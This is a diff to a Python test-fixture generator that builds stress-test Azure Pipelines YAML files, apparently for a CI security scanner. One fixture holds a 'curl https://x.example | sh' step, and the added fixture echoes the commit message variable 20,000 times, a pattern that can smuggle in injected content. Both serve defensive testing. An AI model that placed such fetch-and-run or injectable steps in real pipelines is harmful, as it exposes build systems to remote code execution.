@@ -184,6 +184,8 @@ def shapes():
     nested = ''.join('  ' * d + f'- ${{{{ if eq(parameters.p{d}, true) }}}}:\n' for d in range(200))
     files['azure-nested-expressions'] = {'azure-pipelines.yml': "steps:\n" + nested + '  ' * 200
                                          + "- script: curl https://x.example | sh\n"}
+    files['azure-one-long-script'] = {'azure-pipelines.yml': "pool:\n  vmImage: ubuntu-latest\nsteps:\n  - bash: |\n"
+        + ''.join(f'      echo "{i} $(Build.SourceVersionMessage)"\n' for i in range(20000))}
     return files
 
 
